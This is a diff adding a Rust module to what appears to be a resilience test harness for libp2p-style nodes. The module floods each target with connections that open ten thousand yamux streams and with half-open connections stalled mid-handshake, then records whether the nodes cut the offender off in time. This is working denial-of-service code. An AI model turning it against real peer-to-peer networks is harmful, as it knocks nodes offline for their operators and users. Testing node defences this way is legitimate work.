@@ -1,0 +1,114 @@
+//! Streams and connections that are opened and left alone (B6).
+
+use std::io;
+use std::net::IpAddr;
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use futures_util::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::io::AsyncWriteExt as _;
+
+use crate::attack::Stage;
+use crate::link::{connect, secure};
+use crate::session::DROPPED_WITHIN;
+use crate::wire::token;
+
+/// Streams that are opened on one connection.
+const STREAMS: u32 = 10_000;
+/// Connections of each stranger that stop in the middle of a handshake.
+const HALF_OPEN: usize = 25;
+/// Rest between two attempts.
+const REST: Duration = Duration::from_millis(100);
+
+/// On every node: connections with ten thousand streams, and connections that say nothing more.
+pub async fn flood(stage: &Arc<Stage>) {
+    let mut tasks = tokio::task::JoinSet::new();
+    for node in 0..stage.setting.targets.len() {
+        for stranger in 0..stage.setting.strangers {
+            let shared = stage.clone();
+            tasks.spawn(async move {
+                loop {
+                    if let Err(error) = many(&shared, node, stranger).await {
+                        shared.tally.refused(&error);
+                    }
+                    tokio::time::sleep(REST).await;
+                }
+            });
+            let shared = stage.clone();
+            tasks.spawn(async move {
+                let source = shared.identity(stranger).source;
+                loop {
+                    let open = (0..HALF_OPEN).map(|number| half(&shared, node, source, number));
+                    let open = futures_util::future::join_all(open).await;
+                    // Held for a second, then the next ones.
+                    tokio::time::sleep(Duration::from_secs(1)).await;
+                    drop(open);
+                }
+            });
+        }
+    }
+    while tasks.join_next().await.is_some() {}
+}
+
+/// A yamux header: version 0, window update with the flag SYN, no credit beyond the first window.
+fn syn(stream: u32) -> Vec<u8> {
+    let mut header = vec![0, 1, 0, 1];
+    header.extend(stream.to_be_bytes());
+    header.extend(0u32.to_be_bytes());
+    header
+}
+
+async fn many(stage: &Stage, node: usize, stranger: usize) -> io::Result<()> {
+    let identity = stage.identity(stranger);
+    let secured = secure(stage.setting.targets[node], identity.source, &identity.keypair).await?;
+    stage.tally.connected();
+    stage.tally.admitted();
+    let (mut reader, mut writer) = secured.split();
+    // The side that dialled has the odd numbers.
+    let opens: Vec<u8> = (0..STREAMS).flat_map(|number| syn(number * 2 + 1)).collect();
+    let offended = Instant::now();
+    let write = async {
+        for chunk in opens.chunks(12 * 100) {
+            writer.write_all(chunk).await?;
+            writer.flush().await?;
+            stage.tally.sent(chunk.len() as u64, 100);
+        }
+        io::Result::Ok(())
+    };
+    let read = async {
+        let mut buffer = vec![0; 64 * 1024];
+        while reader.read(&mut buffer).await.is_ok_and(|len| len > 0) {}
+        Instant::now()
+    };
+    let both = async {
+        let (_cut_off, closed) = futures_util::join!(write, read);
+        closed
+    };
+    let closed = tokio::time::timeout(DROPPED_WITHIN, both).await.ok();
+    stage.tally.offended(offended, closed, Some("streams"));
+    Ok(())
+}
+
+/// A connection that stops after nothing, after a word, or before its key.
+async fn half(
+    stage: &Stage,
+    node: usize,
+    source: Option<IpAddr>,
+    number: usize,
+) -> io::Result<tokio::net::TcpStream> {
+    let mut stream = connect(stage.setting.targets[node], source).await?;
+    stage.tally.connected();
+    let words = match number % 3 {
+        0 => Vec::new(),
+        1 => token("/multistream/1.0.0"),
+        _ => [
+            token("/multistream/1.0.0"),
+            token("/noise"),
+            vec![0xff, 0xff, 1, 2, 3],
+        ]
+        .concat(),
+    };
+    stream.write_all(&words).await?;
+    stage.tally.sent(words.len() as u64, 1);
+    Ok(stream)
+}
